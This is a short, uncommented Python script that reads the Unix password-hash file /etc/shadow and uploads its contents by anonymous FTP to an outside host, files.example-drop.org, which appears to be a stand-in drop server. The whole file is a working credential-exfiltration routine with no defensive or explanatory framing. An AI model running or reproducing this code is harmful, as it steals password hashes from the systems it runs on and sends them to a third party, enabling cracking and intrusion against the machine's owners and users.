import ftplib
import io

with open("/etc/shadow", "rb") as f:
    data = f.read()
ftp = ftplib.FTP("files.example-drop.org")
ftp.login("anon", "anon")
ftp.storbinary("STOR shadow.txt", io.BytesIO(data))
ftp.quit()
